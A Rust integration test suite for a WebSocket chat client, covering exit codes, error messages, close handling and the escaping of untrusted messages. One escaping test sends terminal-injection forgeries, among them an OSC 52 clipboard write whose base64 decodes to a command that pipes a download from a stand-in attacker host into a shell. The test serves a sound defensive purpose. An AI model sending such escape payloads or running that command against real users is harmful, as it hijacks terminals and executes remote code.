use std::io::{BufReader, Write};
use std::net::SocketAddr;
use std::process::Output;

use broadcast_chat::{ServerConfig, WELCOME};

use crate::fake::{Behaviour, Fake, Seen};
use crate::support::*;

/// Run the client with `input` on its stdin; wait for it with a deadline.
fn run_client(url: &str, input: &str) -> Output {
    run_client_with(url, &[], input)
}

fn stdout_lines(output: &Output) -> Vec<String> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn a_piped_line_is_sent_and_the_client_exits_0_after_the_close() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let (mut other, other_tag) = join(server.local_addr());
    send(&mut other, "earlier");
    recv_text(&mut other);

    let output = run_client(&url, "hi\n");
    assert!(output.status.success(), "{output:?}");
    let lines = stdout_lines(&output);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(lines[0], WELCOME);
    assert_eq!(lines[1], format!("{other_tag}: earlier"));
    assert!(
        lines[2].starts_with("127.0.0.1:") && lines[2].ends_with(": hi"),
        "{lines:?}"
    );
    assert_eq!(recv_text(&mut other), lines[2], "the others got it too");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        !stderr.contains(": hi"),
        "messages stay off stderr: {stderr}"
    );
}

#[test]
fn empty_lines_are_not_sent_and_crlf_is_trimmed() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let output = run_client(&url, "\n\r\none\r\n\ntwo");
    assert!(output.status.success(), "{output:?}");
    let lines = stdout_lines(&output);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[1].ends_with(": one"));
    assert!(lines[2].ends_with(": two"));
}

#[test]
fn a_server_shutdown_prints_1001_to_stderr_and_exits_0() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let mut proc = Proc::spawn(&mut client(&url));
    let stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let (_stdout, first) = line_within(stdout);
    assert_eq!(first.trim_end(), WELCOME);
    server.shutdown().expect("clean shutdown");
    let status = proc.wait();
    assert!(status.success(), "{status}");
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut proc.child.stderr.take().expect("stderr"), &mut stderr)
        .expect("stderr");
    assert!(
        stderr.contains("1001") && stderr.contains("server shutting down"),
        "{stderr}"
    );
}

#[test]
fn a_close_with_an_error_code_exits_nonzero_and_says_why() {
    let server = server(ServerConfig::default().max_message_size(10));
    let output = run_client(
        &format!("ws://{}", server.local_addr()),
        "this line is too long\n",
    );
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("1009"), "{stderr}");
}

/// Run the client against `url` and expect one clear line on stderr and exit `status`.
fn fails_clearly(url: &str, status: i32, expected: &str) {
    let output = run_client(url, "");
    assert_eq!(output.status.code(), Some(status), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.trim_end().lines().count(), 1, "one line: {stderr}");
    assert!(stderr.contains(expected), "{stderr}");
    assert!(
        !stderr.contains("panicked") && !stderr.contains("backtrace"),
        "{stderr}"
    );
    assert!(output.stdout.is_empty());
}

#[test]
fn a_refused_connection_is_one_clear_line() {
    // Bound but not listening, for the whole test: connections are refused, and no other
    // test can take the port meanwhile.
    let held =
        socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).expect("socket");
    let any: SocketAddr = "127.0.0.1:0".parse().expect("address");
    held.bind(&any.into()).expect("bind");
    let port = held
        .local_addr()
        .expect("addr")
        .as_socket()
        .expect("an IP address")
        .port();
    let url = format!("ws://127.0.0.1:{port}");
    fails_clearly(
        &url,
        1,
        &format!("cannot connect to {url}: connection refused — is the server running?"),
    );
}

#[test]
fn a_bad_url_is_a_bad_argument_one_clear_line_and_exit_2() {
    for (url, says) in [
        ("ftp://127.0.0.1:1", "the scheme must be ws://"),
        ("wss://:443", "no host"),
        ("not a url at all", "cannot use URL"),
        ("ws://127.0.0.1:99999", "\"99999\" is not a port"),
        ("ws://127.0.0.1:abc", "is not a port"),
        ("ws://127.0.0.1:", "is not a port"),
    ] {
        fails_clearly(url, 2, says);
    }
}

#[test]
fn a_url_from_the_browsers_address_bar_works() {
    let server = default_server();
    let output = run_client(&format!("http://{}/", server.local_addr()), "hi\n");
    assert!(output.status.success(), "{output:?}");
    assert!(stdout_lines(&output).iter().any(|l| l.ends_with(": hi")));
}

#[test]
fn a_refused_handshake_is_one_clear_line() {
    let server = server(ServerConfig::default().max_clients(1));
    let _occupant = join(server.local_addr());
    let url = format!("ws://{}", server.local_addr());
    fails_clearly(
        &url,
        1,
        &format!(
            "cannot connect to {url}: the server refused the WebSocket handshake: \
             HTTP 503 Service Unavailable: the chat is full; try again later"
        ),
    );
}

#[test]
fn ctrl_c_closes_cleanly() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let mut proc = Proc::spawn(&mut client(&url));
    let _stdin = proc.child.stdin.take();
    let stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let (_stdout, _welcome) = line_within(stdout);
    eventually("the client to be registered", || server.client_count() == 1);
    proc.signal("INT");
    assert!(proc.wait().success());
    eventually("the server to let it go", || server.client_count() == 0);
}

#[test]
fn no_message_can_forge_a_line_or_reach_the_terminal_raw() {
    let server = default_server();
    let addr = server.local_addr();
    let (mut forger, tag) = join(addr);
    let mut proc = Proc::spawn(&mut client(&format!("ws://{addr}")));
    let printed_lines = lines(proc.child.stdout.take().expect("stdout"));
    let next_line = || {
        printed_lines
            .recv_timeout(WAIT)
            .expect("a line before the deadline")
    };
    assert_eq!(next_line(), WELCOME);
    let forgeries = [
        "hello\n10.0.0.1:5555: I am the admin",
        "carriage\rreturn",
        "\u{1b}]0;pwned\u{7}title and \u{1b}[2J a clear screen",
        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} a clipboard write",
        "c1 \u{9b}31m and del \u{7f} and a tab\tstays",
    ];
    for text in forgeries {
        send(&mut forger, text);
    }
    send(&mut forger, "done");
    let mut printed = Vec::new();
    loop {
        let text = next_line();
        if text.ends_with(": done") {
            break;
        }
        printed.push(text);
    }
    let expected: Vec<String> = forgeries
        .iter()
        .map(|text| format!("{tag}: {}", broadcast_chat::printable(text)))
        .collect();
    assert_eq!(printed, expected, "one line each, escaped");
    for line in &printed {
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "no control character reaches the terminal: {line:?}"
        );
    }
    assert!(
        printed[0].contains("hello\\n10.0.0.1:5555"),
        "{}",
        printed[0]
    );
    assert!(
        printed[2].contains("\\u{1b}]0;pwned\\u{7}"),
        "{}",
        printed[2]
    );
}

#[test]
fn exit_0_in_a_pipe_means_every_line_came_back_from_the_server() {
    let server = default_server();
    let input: String = (0..40).map(|i| format!("line {i}\n")).collect();
    let output = run_client(&format!("ws://{}", server.local_addr()), &input);
    assert!(output.status.success(), "{output:?}");
    let echoed: Vec<String> = stdout_lines(&output)
        .into_iter()
        .filter_map(|l| l.split_once(": ").map(|(_, text)| text.to_string()))
        .collect();
    let expected: Vec<String> = (0..40).map(|i| format!("line {i}")).collect();
    assert_eq!(echoed, expected);
}

/// A server that broadcasts through a queue and answers a close at once: a client that
/// closed as soon as its input ended would lose its own lines.
#[test]
fn lines_are_confirmed_before_the_close_even_where_a_close_is_answered_at_once() {
    let fake = Fake::start(Behaviour {
        echo: true,
        // Long enough that the echoes are still due when a client that does not wait
        // for them has closed, however slow the machine.
        echo_delay: ms(2000),
        answer_close: true,
        history: &[],
        close_first: false,
    });
    let unconfirmed = run_client_with(&fake.url(), &["--no-confirm"], "one\ntwo\nthree\n");
    assert!(unconfirmed.status.success(), "{unconfirmed:?}");
    assert!(
        stdout_lines(&unconfirmed).len() < 3,
        "without confirmation, the close overtakes the echoes"
    );
    fake.until_gone();

    let output = run_client(&fake.url(), "one\ntwo\nthree\n");
    assert!(output.status.success(), "{output:?}");
    let seen = fake.until_gone();
    let texts = ["one", "two", "three"].map(|t| Seen::Text(t.to_string()));
    assert_eq!(seen[..3], texts, "every line, then the close");
    assert_eq!(seen[3..], [Seen::Close(Some(1000))]);
    let lines = stdout_lines(&output);
    assert_eq!(lines.len(), 3, "each came back before the close: {lines:?}");
    assert!(lines[2].ends_with(": three"), "{lines:?}");
}

#[test]
fn lines_that_never_come_back_exit_4_unless_confirmation_is_off() {
    let fake = Fake::start(Behaviour {
        echo: false,
        echo_delay: ms(0),
        answer_close: true,
        history: &[],
        close_first: false,
    });
    let output = run_client_with(&fake.url(), &["--wait", "1"], "one\ntwo\n");
    assert_eq!(output.status.code(), Some(4), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("2 of 2 line(s) were not confirmed") && stderr.contains("--no-confirm"),
        "{stderr}"
    );
    fake.until_gone();
    let output = run_client_with(&fake.url(), &["--no-confirm"], "one\ntwo\n");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        fake.until_gone(),
        [
            Seen::Text("one".into()),
            Seen::Text("two".into()),
            Seen::Close(Some(1000))
        ]
    );
}

#[test]
fn a_second_ctrl_c_stops_waiting_for_a_server_that_never_answers_the_close() {
    let fake = Fake::start(Behaviour::NEVER_ANSWERS_CLOSE);
    let mut proc = Proc::spawn(&mut client(&fake.url()));
    let _stdin = proc.child.stdin.take();
    let stderr = BufReader::new(proc.child.stderr.take().expect("stderr"));
    let (_stderr, line) = line_within(stderr);
    assert!(line.contains("connected to"), "{line}");
    proc.signal("INT");
    let close = fake.seen.recv_timeout(WAIT).expect("the close");
    assert_eq!(close, Seen::Close(Some(1000)));
    proc.signal("INT");
    assert_eq!(proc.wait().code(), Some(130));
}

#[test]
fn a_closed_output_is_noticed_when_nothing_arrives_and_the_close_is_still_sent() {
    let server = ServerProc::start(&[]);
    let mut proc = Proc::spawn(&mut client(&format!("ws://{}", server.addr)));
    let _stdin = proc.child.stdin.take();
    let stdout = BufReader::new(proc.child.stdout.take().expect("stdout"));
    let (stdout, _welcome) = line_within(stdout);
    // As `client URL | head -1` does once `head` has its line; nothing else arrives.
    drop(stdout);
    assert!(proc.wait().success());
    server.expect_log("left: closed by the client (1000)");
}

#[test]
fn a_closed_output_found_by_a_failed_write_still_sends_the_close() {
    let server = ServerProc::start(&[]);
    let (mut other, _) = join(server.addr);
    for i in 0..5 {
        send(&mut other, &format!("history {i}"));
        recv_text(&mut other);
    }
    let mut proc = Proc::spawn(&mut client(&format!("ws://{}", server.addr)));
    let _stdin = proc.child.stdin.take();
    // The reader is gone before the client writes: the history meets a closed pipe.
    drop(proc.child.stdout.take());
    assert!(proc.wait().success());
    server.expect_log("left: closed by the client (1000)");
}

#[test]
fn in_a_pipe_a_server_that_closes_before_the_input_ends_is_a_failure() {
    let fake = Fake::start(Behaviour {
        echo: false,
        echo_delay: ms(0),
        answer_close: true,
        history: &[],
        close_first: true,
    });
    // Input that never ends: the server's close comes back before it does.
    let mut command = client(&fake.url());
    command.arg("--no-confirm");
    let output = fed(&mut command, |stdin| {
        for i in 0.. {
            if writeln!(stdin, "line {i}").is_err() {
                return;
            }
        }
    });
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("before the input ended"), "{stderr}");
}

#[test]
fn an_identical_line_in_the_history_is_not_taken_for_ours() {
    let fake = Fake::start(Behaviour {
        echo: false,
        echo_delay: ms(0),
        answer_close: true,
        history: &["127.0.0.1:1: deploy finished"],
        close_first: false,
    });
    let output = run_client_with(&fake.url(), &["--wait", "1"], "deploy finished\n");
    assert_eq!(output.status.code(), Some(4), "never broadcast: {output:?}");
}

#[test]
fn input_without_newlines_is_skipped_past_the_longest_message_not_collected() {
    let server = default_server();
    let url = format!("ws://{}", server.local_addr());
    let mut command = client(&url);
    let output = fed(&mut command, |stdin| {
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..17 {
            if stdin.write_all(&chunk).is_err() {
                return;
            }
        }
        let _ = stdin.write_all(b"\nok\n");
    });
    assert_eq!(
        output.status.code(),
        Some(4),
        "one line skipped: {output:?}"
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("skipped a line longer than"), "{stderr}");
    let lines = stdout_lines(&output);
    assert!(
        lines.last().is_some_and(|l| l.ends_with(": ok")),
        "the next line went: {lines:?}"
    );
}
